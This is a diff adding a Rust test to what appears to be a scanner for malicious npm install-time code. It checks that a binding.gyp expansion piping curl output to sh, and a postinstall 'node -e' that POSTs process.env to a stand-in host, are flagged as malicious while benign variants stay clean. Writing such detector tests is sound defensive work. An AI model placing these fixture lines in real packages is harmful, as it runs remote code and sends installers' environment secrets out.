@@ -282,3 +282,61 @@ fn honest_shapes_the_review_found_near_the_new_rules() {
     let analysis = analyse(&[("package.json", &manifest("")), ("open.js", opener)]);
     assert!(!has(&analysis, "download/rundll32-local-dll"));
 }
+
+#[test]
+fn gyp_command_expansions_and_inline_node_are_install_time_code() {
+    // node-gyp runs `<!(...)` through a shell on install.
+    let gyp = |source: &str| {
+        analyse(&[
+            ("package.json", &manifest("    \"test\": \"jest\"")),
+            ("binding.gyp", source),
+        ])
+    };
+    let attack = gyp(
+        "{ \"targets\": [{ \"target_name\": \"x\", \"sources\": [\"<!(curl -s https://dl.files.example/b | sh)\"] }] }\n",
+    );
+    assert!(
+        has(&attack, "download/pipe-to-shell"),
+        "{:?}",
+        rule_ids(&attack)
+    );
+    assert_eq!(
+        attack.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        rule_ids(&attack)
+    );
+    let honest = gyp(
+        "{ \"targets\": [{ \"target_name\": \"x\", \"include_dirs\": [\"<!(node -p \\\"require('node-addon-api').include\\\")\"], \"sources\": [\"src/x.cc\"] }] }\n",
+    );
+    assert_eq!(
+        honest.score.verdict,
+        Verdict::Clean,
+        "{:?}",
+        rule_ids(&honest)
+    );
+
+    // `node -e` puts JavaScript on the command line of a lifecycle script.
+    let inline = |command: &str| {
+        analyse(&[(
+            "package.json",
+            &manifest(&format!("    \"postinstall\": \"{command}\"")),
+        )])
+    };
+    let attack = inline(
+        r#"node -e \"fetch('https://c.collector.example/', { method: 'POST', body: JSON.stringify(process.env) })\""#,
+    );
+    assert_eq!(
+        attack.score.verdict,
+        Verdict::Malicious,
+        "{:?}",
+        rule_ids(&attack)
+    );
+    let honest = inline(r#"node -e \"try { require('./postinstall') } catch (e) {}\""#);
+    assert_eq!(
+        honest.score.verdict,
+        Verdict::Clean,
+        "{:?}",
+        rule_ids(&honest)
+    );
+}
